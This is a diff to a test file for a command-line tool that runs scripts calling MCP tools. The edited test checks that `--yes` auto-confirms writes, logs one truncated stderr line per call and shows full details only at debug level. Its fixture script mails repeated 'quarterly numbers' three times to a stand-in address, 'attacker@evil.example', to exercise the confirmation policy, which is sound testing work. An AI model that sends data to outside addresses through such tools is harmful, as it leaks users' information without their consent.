@@ -130,12 +130,33 @@ describe("the default policy confirms every tool not marked read-only (issue 17 
     expect(read).toMatchObject({ code: 0, questions: 0 });
   });
 
-  it("`--yes` answers yes to the write and still shows the call on stderr", async () => {
+  it("`--yes` answers yes to each write and leaves one line per call on stderr, cut to a width; stdout keeps only the result", async () => {
     const before = served().length;
-    const out = await cli(home, ["run", "--yes", "-e", SEND]);
+    const long = `${"the quarterly numbers, ".repeat(30)}\nsecond line`;
+    const script = `const mail = require("host:mcp-mail");
+for (let i = 0; i < 3; i++) await mail.send_message({ to: "attacker@evil.example", body: ${JSON.stringify(long)} + i });
+return "sent";`;
+    const out = await cli(home, ["run", "--yes", "-e", script]);
     expect(out.code, out.stderr).toBe(0);
-    expect(out.stderr).toContain("MCP call mail.send_message (the tool is not marked read-only)");
-    expect(served().slice(before)).toEqual(["send_message"]);
+    expect(out.stdout).toBe("sent\n");
+    expect(served().slice(before)).toEqual(["send_message", "send_message", "send_message"]);
+    const records = out.stderr.split("\n").filter((line) => line.startsWith("confirmed (--yes): mail.send_message"));
+    expect(records).toHaveLength(3);
+    for (const line of records) {
+      expect(line.length).toBeLessThanOrEqual(120);
+      expect(line).toContain(' to="attacker@evil.example" body="the quarterly numbers, the quarterly');
+      expect(line).toMatch(/…$/);
+    }
+    // The question block is for a person being asked; nobody was.
+    expect(out.stderr).not.toContain("arguments:");
+    expect(out.stderr).not.toContain("Allow this call?");
+
+    // Asked for everything (--log-level debug), the whole block is shown for each call.
+    const verbose = await cli(home, ["--log-level", "debug", "run", "--yes", "-e", SEND]);
+    expect(verbose.code, verbose.stderr).toBe(0);
+    expect(verbose.stderr).toContain("MCP call mail.send_message (the tool is not marked read-only)");
+    expect(verbose.stderr).toContain('"body": "the quarterly numbers"');
+    expect(verbose.stderr).toContain("allowed (--yes)");
   });
 
   it('relaxing to `confirm: "destructive"` needs a new approval, then keeps the old behaviour: send runs unasked, delete is still refused', async () => {
